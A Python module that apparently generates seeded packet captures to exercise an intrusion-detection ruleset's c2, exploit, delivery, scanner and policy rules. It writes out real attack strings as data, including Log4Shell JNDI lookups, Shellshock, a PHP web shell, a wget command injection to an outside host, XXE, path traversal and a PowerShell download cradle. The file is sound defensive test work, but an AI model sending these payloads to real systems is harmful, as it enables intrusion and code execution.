"""Seeded captures that give each shipped rule what it looks for; the rest of pcaps/features/.

Inside is 10.50.0.0/16, so the rules' default $HOME_NET holds. Nothing here works as an attack: the
bytes a rule wants are there and nothing else."""
import base64
import datetime
import struct

from . import certs, frames as f, payloads, story, talks, tls
from .features import BASE, feature

SERVER, CLIENT, OUTSIDE = "10.50.0.80", "10.50.1.20", "198.18.45.9"
SECOND = 1000000


class Stage:
    """Hands out sessions a few seconds apart, each with ports of its own."""

    def __init__(self, rng, capture):
        self.rng, self.capture, self.now, self.port = rng, capture, BASE, 51000

    def tick(self, seconds=5):
        self.now += int(seconds * SECOND)
        self.port += 1
        return self.now

    def talk(self, client, server, port, seconds=5):
        return talks.Tcp(self.capture, self.rng, self.tick(seconds), client, self.port, server, port).open()

    def attack(self, uri="/", answer=b"<html>no</html>", status="404 Not Found", kind="text/html", **request):
        """From outside to the organisation's web server."""
        talk = self.talk(OUTSIDE, SERVER, 80, request.pop("seconds", 5))
        talk.to_server(payloads.request("www.example", uri, **request))
        talk.to_client(payloads.response(answer, status, kind)).close()

    def fetch(self, host, uri, answer, kind, **request):
        """From inside to a server outside."""
        talk = self.talk(CLIENT, OUTSIDE, 80)
        talk.to_server(payloads.request(host, uri, **request))
        talk.to_client(payloads.response(answer, kind=kind)).close()

    def datagram(self, client, server, port, data, answer=None):
        now = self.tick(1)
        talks.udp(self.capture, self.rng, now, client, self.port, server, port, data, answer)


@feature("rules-c2.pcap", "What the rules of c2.rules look for")
def c2(rng, capture):
    stage = Stage(rng, capture)
    story.lookup(capture, rng, stage.tick(), CLIENT, "198.18.53.53")
    story.tls_beacon(capture, rng, CLIENT, stage.tick(), stage.now + 60 * SECOND)
    story.http_beacon(capture, rng, CLIENT, stage.tick(), stage.now + 60 * SECOND)
    talk = stage.talk(CLIENT, OUTSIDE, 4444)
    talk.to_client(b"id\n").to_server(b"uid=0(root) gid=0(root) groups=0(root)\n").close()
    talk = stage.talk(CLIENT, OUTSIDE, 4445)
    talk.to_server(b"Microsoft Windows [Version 10.0.19045.1]\r\n(c) Example\r\n\r\nC:\\Users\\clerk>").close()
    for _ in range(8):
        label = base64.b32encode(rng.randbytes(34)).decode().lower().rstrip("=")
        name = f"{label}.t.deep-water.example"
        ident = rng.getrandbits(16)
        stage.datagram(CLIENT, "198.18.53.53", 53, payloads.dns_query(ident, name, "TXT"),
                       payloads.dns_answer(ident, name, "TXT", [payloads.txt("ok")]))
    for i in range(8):
        echo = f.icmp(8, 0, struct.pack("!HH", 7, i), rng.randbytes(1000))
        capture.add(stage.tick(2), f.ether(f.ip4(CLIENT, OUTSIDE, f.ICMP, echo)))
    talk = stage.talk(CLIENT, OUTSIDE, 8088)
    talk.to_server(b"NICK tide-7\r\nUSER a b c :d\r\nJOIN #tide\r\n").close()
    stage.fetch(OUTSIDE, "/in", b"ok", "text/plain", method="POST", agent=None, body=rng.randbytes(64).hex().encode())
    talk = stage.talk(CLIENT, OUTSIDE, 4446)
    program = story.windows_program(rng)
    talk.to_client(struct.pack("<I", len(program)) + program).close()


@feature("rules-exploit.pcap", "What the rules of exploit.rules look for")
def exploit(rng, capture):
    stage = Stage(rng, capture)
    stage.attack(agent="${jndi:ldap://198.18.45.9/a}")
    stage.attack("/search?q=${jndi:dns://198.18.45.9/a}")
    stage.attack(agent="${${lower:j}ndi:${lower:l}dap://198.18.45.9/a}")
    stage.attack("/cgi-bin/.%2e/.%2e/bin/sh")
    stage.attack("/download?file=../../../etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n", "200 OK", "text/plain")
    stage.attack("/cgi-bin/status", agent="() { :;}; echo")
    stage.attack("/upload.action", method="POST", headers=["Content-Type: %{(#_='multipart/form-data')}"], body=b"x")
    stage.attack("/vendor/phpunit/src/Util/PHP/eval-stdin.php")
    stage.attack("/levels?id=1%20union%20all%20select%20user,pass%20from%20t")
    stage.attack("/upload.php", method="POST", body=b"<?php system($_GET['c']); ?>")
    stage.attack("/uploads/a.php?cmd=id", b"uid=33(www-data)", "200 OK", "text/plain")
    stage.attack("/form", method="POST", body=b"class.module.classLoader.resources.context=x")
    stage.attack("/ping?host=1.1.1.1;wget%20http://198.18.45.9/a.sh")
    stage.attack("/vpn/../vpns/portal/scripts/x.pl")
    stage.attack("/%24%7B%28%23a%3D1%29%7D/")
    stage.attack("/xml", method="POST", body=b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>')
    stage.attack("/index.php?-d+allow_url_include%3d1")
    stage.attack("/invoke", method="POST", body=b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap")
    stage.attack("/.git/config")
    talk = stage.talk(OUTSIDE, SERVER, 443)
    talk.to_server(b"\x18\x03\x02\x00\x03\x01\x40\x00").close()
    talk = stage.talk(OUTSIDE, SERVER, 445)
    talk.to_server(b"\0\0\0\x54\xffSMB\x72" + bytes(27) + b"\x00\x31\x00\x02NT LM 0.12\0" + bytes(30)).close()


@feature("rules-delivery.pcap", "What the rules of delivery.rules look for")
def delivery(rng, capture):
    stage = Stage(rng, capture)
    stage.fetch(OUTSIDE, "/a.bin", story.program(rng), "application/octet-stream", agent="curl/7.88.1")
    stage.fetch(OUTSIDE, "/a.sh", b"#!/bin/sh\ncd /tmp; echo tide\n", "text/plain", agent="Wget/1.21")
    stage.fetch("img.example", "/harbour.png", story.windows_program(rng), "image/png")
    stage.fetch("www.example", "/a.txt", b"IEX (New-Object Net.WebClient).DownloadString('x')", "text/plain")
    stage.fetch("www.example", "/a.hta", b'<html><HTA:APPLICATION ID="t"><script>1</script></html>', "application/hta")


@feature("rules-scanner.pcap", "What the rules of scanner.rules look for and nmap did not send")
def scanner(rng, capture):
    stage = Stage(rng, capture)
    for agent in ("sqlmap/1.7#stable", "Mozilla/5.00 (Nikto/2.1.6)", "masscan/1.3", "Mozilla/5.0 zgrab/0.x"):
        stage.attack(agent=agent)
    for i in range(25):
        stage.attack(f"/guess-{i}/", seconds=0.5)
    for i in range(90):
        talks.Tcp(capture, rng, stage.tick(0.05), OUTSIDE, stage.port, SERVER, 1000 + i).knock("rst")
    question = payloads.dns_query(1, "version.bind", "TXT", 3)
    stage.datagram(OUTSIDE, "10.50.0.53", 53, question)
    transfer = payloads.dns_query(2, "example", "AXFR")
    stage.talk(OUTSIDE, "10.50.0.53", 53).to_server(struct.pack("!H", len(transfer)) + transfer).close()
    stage.datagram(OUTSIDE, SERVER, 5060, b"OPTIONS sip:100@10.50.0.80 SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n")
    get_next = "302602010104067075626c6963a019020400000001020100020100300b300906052b060102010500"
    stage.datagram(OUTSIDE, SERVER, 161, bytes.fromhex(get_next))
    for _ in range(12):
        talk = stage.talk(OUTSIDE, SERVER, 22, 2)
        talk.to_client(b"SSH-2.0-OpenSSH_9.2\r\n").to_server(b"SSH-2.0-libssh_0.9.6\r\n").reset()
    trace = f.ip4(OUTSIDE, SERVER, f.UDP, f.udp(OUTSIDE, SERVER, 33000, 33434, b"trace"), ttl=1)
    capture.add(stage.tick(), f.ether(trace))


@feature("rules-policy.pcap", "What the rules of policy.rules look for and the live captures do not show")
def policy(rng, capture):
    stage = Stage(rng, capture)
    stage.fetch("www.example", "/login?user=clerk&password=spring-tide", b"ok", "text/html")
    talk = stage.talk(CLIENT, OUTSIDE, 443)
    tls.session12(talk, rng, tls.OLD, "old.example", [certificate(rng)], 200, 200, tls.TLS10 + 1)
    talk.close()
    talk = stage.talk(CLIENT, OUTSIDE, 443)
    tls.session13(talk, rng, tls.BROWSER, "dns.google", 200, 300)
    talk.close()
    peer = b"\x13BitTorrent protocol" + bytes(8) + rng.randbytes(40)
    stage.talk(CLIENT, OUTSIDE, 51413).to_server(peer).to_client(peer).close()
    cookie = b"Cookie: mstshash=clerk\r\n" + bytes([1, 0, 8, 0, 3, 0, 0, 0])
    request = struct.pack("!BBHBBHHB", 3, 0, 11 + len(cookie), 6 + len(cookie), 0xE0, 0, 0, 0) + cookie
    stage.talk(OUTSIDE, SERVER, 3389).to_server(request).close()
    hello = b"SSH-2.0-OpenSSH_9.2\r\n"
    stage.talk(CLIENT, OUTSIDE, 2222).to_client(hello).to_server(hello).close()
    stage.talk(OUTSIDE, SERVER, 5900).to_client(b"RFB 003.008\n").to_server(b"RFB 003.008\n").close()
    stage.fetch("www.example", "/", b"ok", "text/html", agent="Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)")
    talk = stage.talk(OUTSIDE, SERVER, 80)
    talk.to_server(payloads.request("www.example", "/"))
    talk.to_client(payloads.response(b"ok", server="Apache/2.2.22 (Debian)")).close()
    stage.talk(CLIENT, OUTSIDE, 3333).to_server(b'{"id":1,"method":"mining.subscribe","params":[]}\n').close()
    talk = stage.talk(OUTSIDE, SERVER, 80)
    talk.to_server(b"CONNECT mail.example:25 HTTP/1.1\r\nHost: mail.example:25\r\n\r\n")
    talk.to_client(payloads.response(b"no", "405 Method Not Allowed")).close()


def certificate(rng):
    return certs.certificate(rng, "C=JP, CN=old.example", "C=JP, CN=Old CA", datetime.datetime(2020, 1, 1), 3650)
